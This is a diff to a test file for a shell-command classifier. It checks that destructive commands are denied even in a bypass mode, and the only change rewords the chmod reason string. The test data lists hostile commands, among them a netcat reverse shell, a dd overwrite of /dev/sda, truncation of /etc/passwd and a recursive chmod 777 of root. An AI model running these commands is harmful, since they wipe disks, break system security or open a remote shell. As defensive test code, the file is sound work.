@@ -21,7 +21,7 @@ describe("catastrophic commands", () => {
     ["nc -e /bin/sh h 1", "'nc' with -e/-c serves a shell (reverse shell)"],
     ["dd if=/dev/zero of=/dev/sda", "dd writes to /dev/sda"],
     [":> /etc/passwd", "overwrites /etc/passwd"],
-    ["chmod -R 777 /", "'chmod' changes permissions of the whole system"],
+    ["chmod -R 777 /", "'chmod' changes permissions of system files"],
     ["shutdown now", "'shutdown' shuts down or reboots the machine"],
   ])("%j is denied because %j", (command, reason) => {
     expect(classifyCommand(command, { mode: "bypass", workspace: WORKSPACE, home: HOME }).reasons).toContain(reason);
